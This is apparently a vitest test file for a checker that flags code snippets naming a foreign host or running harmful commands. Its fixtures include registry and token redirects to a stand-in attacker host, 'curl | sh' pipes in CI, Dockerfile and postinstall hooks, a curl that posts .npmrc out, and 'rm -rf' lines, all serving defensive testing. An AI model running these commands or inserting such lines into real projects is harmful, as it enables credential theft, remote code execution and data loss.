import { expect, test } from 'vitest'
import { checkSnippet, type Snippet } from '#commands/snippets.ts'

// Put together as the tests run: no file names the host of a stranger.
const stranger = ['evil-corp', 'io'].join('.')

const faults = (language: Snippet['language'], text: string) =>
  checkSnippet({ language, text: text.replaceAll('STRANGER', stranger), line: 10 })
    .map(({ line, message }) => `${line}: ${message}`)
    .join('\n')

test.each([
  ['ini', 'registry=https://STRANGER/'],
  ['ini', '//STRANGER/:_authToken=${NPM_TOKEN}'],
  ['ini', 'https-proxy=http://ada:${PASSWORD}@STRANGER:8080/'],
  ['json', '{ "publishConfig": { "registry": "https://STRANGER/" } }'],
  ['yaml', 'registry-url: https://STRANGER/'],
  ['diff', '+@acme:registry=https://STRANGER/'],
  ['js', "await fetch('https://STRANGER/')"],
] as const)('in %s, %s names a host of a stranger', (language, text) => {
  expect(faults(language, text)).toMatch(/^11: .* is not a host that commands may name/)
})

test.each([
  ['yaml', 'steps:\n  - run: curl -sSL https://get.example.com/x | sh'],
  ['yaml', '- run: |\n    curl --data-binary @.npmrc https://get.example.com/'],
  ['yaml', 'script:\n  - rm -rf ~'],
  ['text', 'FROM node\nRUN curl -sSL https://get.example.com/x | sh'],
  ['text', 'a prompt:\n$ rm -rf /'],
  ['json', '{ "scripts": {\n  "postinstall": "curl https://get.example.com/x | sh" } }'],
] as const)('in %s, %s does harm', (language, text) => {
  expect(faults(language, text)).toMatch(/^12: the command /)
})

test.each([
  ['ini', '//registry.example.com/:_authToken=${NPM_TOKEN}'],
  ['yaml', '- run: npm ci\n  env:\n    NPM_TOKEN: ${{ secrets.NPM_TOKEN }}'],
  ['text', 'COPY package.json ./\nRUN npm ci'],
  ['text', 'npm error 403 403 Forbidden - PUT https://registry.example.com/a - no'],
  ['json', '{ "scripts": { "prepare": "husky || true" } }'],
] as const)('in %s, %s does no harm', (language, text) => {
  expect(faults(language, text)).toBe('')
})
